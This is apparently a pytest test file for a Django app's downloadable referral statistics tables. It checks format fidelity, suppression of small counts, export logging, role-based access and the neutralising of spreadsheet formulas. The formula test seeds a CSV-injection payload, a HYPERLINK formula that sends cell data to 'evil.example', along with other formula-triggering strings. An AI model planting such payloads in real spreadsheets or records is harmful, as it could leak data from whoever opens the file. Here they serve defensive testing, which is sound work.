"""Downloads of the statistics tables: each format opened and read back (tablib for CSV, openpyxl for XLSX, odfpy
through tablib for ODS) and compared with the table drawn for the same filters; formulas neutralised; suppression
as the policy says with true totals; every download in the export log; nobody else gets one."""

import csv
import io
from datetime import date

import openpyxl
import pytest
import tablib
from django.urls import reverse
from odf import opendocument
from odf.table import Table as OdfTable
from odf.table import TableCell, TableRow

from accounts.models import Organisation
from accounts.roles import Role
from insights import periods
from insights.exports import neutralise, published_rows, tidy_rows
from insights.figures import Filters, table_grid
from insights.grid import SUPPRESSED
from insights.models import ExportLogEntry, SuppressionPolicy
from insights.refresh import facts_refresh
from insights.tables import TABLES_BY_KEY
from tests.casework.factories import SubmittedReferralFactory
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

YEAR_2025 = {"period": "y-2025"}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_TOWN = "+SUM(1,2)"


def export_url(key: str, file_format: str) -> str:
    return reverse("insights:export", args=[key, file_format])


def download(client, key: str, file_format: str, **query):
    response = client.get(export_url(key, file_format), {**YEAR_2025, **query})
    assert response.status_code == 200, response.content[:300]
    return response


def expected(key: str, *, threshold: int | None, authority_id=None):
    grid = table_grid(TABLES_BY_KEY[key], Filters(period=periods.calendar_year(2025), authority_id=authority_id))
    if threshold:
        grid.suppress(threshold)
    headers, rows = published_rows(grid)
    tidy_headers, tidy = tidy_rows(grid, threshold)
    clean = [[neutralise(value) for value in row] for row in rows]
    return [neutralise(h) for h in headers], clean, tidy_headers, [[neutralise(v) for v in row] for row in tidy]


def same(a, b) -> bool:
    """A value read back from a file against the one written ("" and None are both an empty cell)."""
    if a in ("", None) and b in ("", None):
        return True
    if isinstance(a, int | float) and isinstance(b, int | float):
        return abs(a - b) < 1e-9
    return str(a) == str(b)


def assert_rows(read: list[list], wanted: list[list]) -> None:
    assert len(read) == len(wanted)
    for got, want in zip(read, wanted, strict=True):
        got = list(got) + [""] * (len(want) - len(got))
        assert all(same(g, w) for g, w in zip(got, want, strict=False)), (got, want)


def csv_table(content: bytes) -> list[list]:
    text = content.decode("utf-8-sig")
    return [row for row in csv.reader(io.StringIO(text))]


def number(text: str):
    """A CSV cell as the number it holds, if it is one."""
    try:
        return int(text)
    except ValueError:
        try:
            return float(text)
        except ValueError:
            return text


def xlsx_sheets(content: bytes) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book.worksheets}


def ods_sheets(content: bytes) -> dict[str, list[list]]:
    book = tablib.Databook()
    book.load(content, "ods")
    return {sheet.title: [list(sheet.headers or [])] + [list(row) for row in sheet] for sheet in book.sheets()}


@pytest.fixture(autouse=True)
def _no_staff_mfa(settings):
    settings.NRM_REQUIRE_STAFF_MFA = False


@pytest.fixture
def analyst_client(client, world):
    client.force_login(world.analyst)
    return client


@pytest.mark.parametrize(
    "key", ["referrals-by-age-and-location", "reasonable-grounds-decisions", "referrals-by-first-responder"]
)
def test_an_xlsx_download_reads_back_as_the_table_its_tidy_data_and_its_notes(analyst_client, world, key):
    response = download(analyst_client, key, "xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheets = xlsx_sheets(response.content)
    assert list(sheets) == ["Notes", "Table", "Tidy data"]
    headers, rows, tidy_headers, tidy = expected(key, threshold=5)
    assert sheets["Table"][0] == headers
    assert_rows(sheets["Table"][1:], rows)
    assert sheets["Tidy data"][0] == tidy_headers
    assert_rows(sheets["Tidy data"][1:], tidy)
    notes = dict((row[0], row[1]) for row in sheets["Notes"][1:] if row[0] != "Note")
    assert notes["Title"] == TABLES_BY_KEY[key].title
    assert notes["Period"].startswith("January to December 2025")
    assert notes["Nation"] == "All of the UK"
    assert notes["Definition"] == TABLES_BY_KEY[key].definition
    assert "shown as [c]" in notes["Suppression"]
    assert notes["Refreshed"].startswith("Figures refreshed at")


def test_numbers_stay_numbers_in_each_format(analyst_client, world):
    key = "referrals-by-age-and-location"
    xlsx = xlsx_sheets(download(analyst_client, key, "xlsx").content)["Table"]
    total_row = xlsx[-1]
    assert total_row[0] == "Total"
    assert isinstance(total_row[-1], int)
    assert total_row[-1] > 0
    ods = ods_sheets(download(analyst_client, key, "ods").content)["Table"]
    assert isinstance(ods[-1][-1], int | float)
    assert ods[-1][-1] == total_row[-1]
    document = opendocument.load(io.BytesIO(download(analyst_client, key, "ods").content))
    table = next(t for t in document.spreadsheet.getElementsByType(OdfTable) if t.getAttribute("name") == "Table")
    last = table.getElementsByType(TableRow)[-1].getElementsByType(TableCell)[-1]
    assert last.getAttribute("valuetype") == "float"


def test_an_ods_download_reads_back_as_the_table(analyst_client, world):
    key = "conclusive-grounds-decisions"
    response = download(analyst_client, key, "ods")
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    assert response.content[30:38] == b"mimetype"  # ODF: the type first, uncompressed
    sheets = ods_sheets(response.content)
    assert list(sheets) == ["Notes", "Table", "Tidy data"]
    headers, rows, tidy_headers, tidy = expected(key, threshold=5)
    assert sheets["Table"][0] == headers
    assert_rows(sheets["Table"][1:], rows)
    assert sheets["Tidy data"][0] == tidy_headers
    assert_rows(sheets["Tidy data"][1:], tidy)


def test_a_csv_download_has_the_notes_then_the_published_table(analyst_client, world):
    key = "referrals-by-gender"
    response = download(analyst_client, key, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = csv_table(response.content)
    blank = next(index for index, line in enumerate(lines) if not any(line))
    notes = {line[0]: line[1] for line in lines[:blank]}
    assert notes["Title"] == TABLES_BY_KEY[key].title
    headers, rows, _, _ = expected(key, threshold=5)
    assert lines[blank + 1][: len(headers)] == headers
    assert_rows([[number(cell) for cell in line] for line in lines[blank + 2 :]], rows)


def test_a_tidy_csv_has_one_row_per_figure_hidden_where_the_table_hides_it(analyst_client, world):
    key = "referrals-by-age-and-location"
    response = download(analyst_client, key, "csv", layout="tidy")
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="nrm-statistics-referrals-by-age-and-location-2025-tidy.csv"'
    )
    lines = csv_table(response.content)
    _, _, tidy_headers, tidy = expected(key, threshold=5)
    assert lines[0] == tidy_headers
    assert_rows([[number(cell) for cell in line] for line in lines[1:]], tidy)
    # The seeded world is small: its counts are hidden, and each hidden figure is a hidden cell of the table.
    assert any(line[-1] == SUPPRESSED for line in lines[1:])
    assert all(line[-1] == SUPPRESSED or int(line[-1]) >= 5 for line in lines[1:])


def test_suppression_in_exports_hides_small_counts_and_keeps_the_true_totals(analyst_client, world):
    key = "referrals-by-age-and-location"
    suppressed = xlsx_sheets(download(analyst_client, key, "xlsx").content)["Table"]
    SuppressionPolicy.objects.create(threshold=5, in_exports=False)
    shown = xlsx_sheets(download(analyst_client, key, "xlsx").content)["Table"]
    assert any(SUPPRESSED in row for row in suppressed)
    assert not any(SUPPRESSED in row for row in shown)
    # Hiding changes no figure: each one shown is the true figure, and the overall total is always shown.
    assert len(suppressed) == len(shown)
    for hidden_row, shown_row in zip(suppressed, shown, strict=True):
        for hidden_value, true_value in zip(hidden_row, shown_row, strict=True):
            assert hidden_value in (SUPPRESSED, true_value)
    assert suppressed[-1][-1] == shown[-1][-1]
    # And the grand total is the number of NRM referrals in 2025, counted from the referrals themselves.
    assert shown[-1][-1] == nrm_referrals_in(2025)
    log = ExportLogEntry.objects.order_by("pk")
    assert [entry.suppressed for entry in log] == [True, False]


def nrm_referrals_in(year: int) -> int:
    from django.utils import timezone

    from referrals.models import Referral, Route

    return sum(
        1
        for submitted in Referral.objects.exclude(route=Route.DUTY_TO_NOTIFY).values_list("submitted_at", flat=True)
        if timezone.localtime(submitted).date().year == year
    )


def test_each_download_is_written_to_the_export_log_with_who_what_and_when(analyst_client, world):
    before = ExportLogEntry.objects.count()
    download(analyst_client, "referrals-by-nationality", "ods", nation="wales")
    entry = ExportLogEntry.objects.order_by("-pk").first()
    assert ExportLogEntry.objects.count() == before + 1
    assert entry.user == world.analyst
    assert entry.what == "referrals-by-nationality"
    assert entry.file_format == "ods"
    assert entry.filters == {
        "from": "2025-01-01",
        "to": "2025-12-31",
        "nation": "wales",
        "authority": None,
        "layout": "published",
    }
    assert entry.suppressed is True
    assert entry.rows > 0
    assert entry.exported_at.date() == date.today() or entry.exported_at is not None


def test_a_download_is_an_attachment_named_by_table_and_period_and_never_stored(analyst_client, world):
    for query, name in (
        ({}, "nrm-statistics-referrals-by-gender-2025.ods"),
        ({"period": "q-2025-2"}, "nrm-statistics-referrals-by-gender-2025-q2.ods"),
        ({"period": "fy-2025"}, "nrm-statistics-referrals-by-gender-2025-26.ods"),
    ):
        response = download(analyst_client, "referrals-by-gender", "ods", **query)
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        assert "no-store" in response["Cache-Control"]
        assert response["X-Content-Type-Options"] == "nosniff"


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_format(analyst_client, world):
    hostile = OrganisationFactory(name=HOSTILE_NAME, kind=Organisation.Kind.NGO)
    SubmittedReferralFactory(
        draft__organisation=hostile,
        submitted_at=world_moment(),
        answers={"uk_towns": [HOSTILE_TOWN, "@cmd", "-2+3"]},
    )
    facts_refresh()
    csv_text = download(analyst_client, "referrals-by-first-responder", "csv").content.decode("utf-8-sig")
    assert f"'{HOSTILE_NAME}".replace('"', '""') in csv_text
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(csv_text)) for cell in row)
    for row in xlsx_sheets(download(analyst_client, "referrals-by-first-responder", "xlsx").content)["Table"]:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@"))), cell
    workbook = openpyxl.load_workbook(
        io.BytesIO(download(analyst_client, "referrals-by-first-responder", "xlsx").content)
    )
    cells = [cell for row in workbook["Table"].iter_rows() for cell in row if cell.value == f"'{HOSTILE_NAME}"]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    ods = ods_sheets(download(analyst_client, "referrals-by-town", "ods").content)
    towns = [row[0] for row in ods["Table"][1:]]
    assert {f"'{HOSTILE_TOWN}", "'@cmd", "'-2+3"} <= set(towns)
    tidy = csv_table(download(analyst_client, "referrals-by-town", "csv", layout="tidy").content)
    assert f"'{HOSTILE_TOWN}" in [row[0] for row in tidy]


def world_moment():
    from datetime import UTC, datetime

    return datetime(2025, 7, 1, 12, tzinfo=UTC)


def test_a_managers_download_holds_only_their_authoritys_figures(client, world):
    client.force_login(world.ieca_manager)
    lines = xlsx_sheets(download(client, "reasonable-grounds-decisions", "xlsx").content)
    _, rows, _, _ = expected("reasonable-grounds-decisions", threshold=5, authority_id=world.ieca.pk)
    assert_rows(lines["Table"][1:], rows)
    # The authority in the address is ignored: a manager's figures are always their authority's.
    other = download(client, "reasonable-grounds-decisions", "xlsx", authority=str(world.sca.pk))
    assert xlsx_sheets(other.content)["Table"] == lines["Table"]
    assert ExportLogEntry.objects.filter(user=world.ieca_manager).first().filters["authority"] == world.ieca.pk
    # Duty to Notify reports belong to no authority: not a manager's.
    assert client.get(export_url("duty-to-notify-by-quarter", "csv"), YEAR_2025).status_code == 404


@pytest.mark.parametrize(
    "role",
    [
        Role.FIRST_RESPONDER,
        Role.ORGANISATION_ADMIN,
        Role.CASEWORKER,
        Role.PANEL_MEMBER,
        Role.ADMIN,
        Role.DATA_PROTECTION,
    ],
)
def test_downloads_are_not_found_for_other_roles(client, world, role):
    client.force_login(UserFactory(role=role, organisation=OrganisationFactory()))
    for file_format in ("csv", "xlsx", "ods"):
        assert client.get(export_url("referrals-by-gender", file_format), YEAR_2025).status_code == 404
    assert not ExportLogEntry.objects.exists()


def test_signed_out_visitors_are_sent_to_sign_in(client, world):
    response = client.get(export_url("referrals-by-gender", "csv"))
    assert response.status_code == 302
    assert not ExportLogEntry.objects.exists()


def test_an_unknown_format_or_table_is_not_found(analyst_client, world):
    assert analyst_client.get(export_url("referrals-by-gender", "pdf")).status_code == 404
    assert analyst_client.get(export_url("referrals-by-gender", "html")).status_code == 404
    assert analyst_client.get(export_url("no-such-table", "csv")).status_code == 404
    assert not ExportLogEntry.objects.exists()


def test_invalid_filters_are_a_plain_bad_request_and_nothing_is_logged(analyst_client, world):
    response = analyst_client.get(export_url("referrals-by-gender", "csv"), {"period": "y-1850"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert "Select a period from the list" in response.content.decode()
    response = analyst_client.get(
        export_url("referrals-by-gender", "xlsx"), {"period": "custom", "start_0": "31", "start_1": "2"}
    )
    assert response.status_code == 400
    assert not ExportLogEntry.objects.exists()


def test_every_table_downloads_in_every_format(analyst_client, world):
    for key in TABLES_BY_KEY:
        for file_format in ("csv", "xlsx", "ods"):
            response = download(analyst_client, key, file_format)
            assert response.content, (key, file_format)
    assert ExportLogEntry.objects.count() == 3 * len(TABLES_BY_KEY)


def test_a_download_makes_the_same_number_of_queries_whatever_the_rows(
    analyst_client, world, django_assert_max_num_queries
):
    with django_assert_max_num_queries(21):
        download(analyst_client, "referrals-by-first-responder-detail", "xlsx")
